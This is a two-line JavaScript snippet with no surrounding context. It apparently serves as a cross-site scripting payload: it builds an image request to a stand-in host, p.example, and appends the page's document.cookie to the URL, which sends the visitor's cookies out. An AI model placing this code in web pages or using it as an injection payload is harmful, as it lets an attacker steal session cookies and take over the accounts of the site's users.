const i = new Image();
i.src = 'https://p.example/p.gif?c=' + encodeURIComponent(document.cookie);
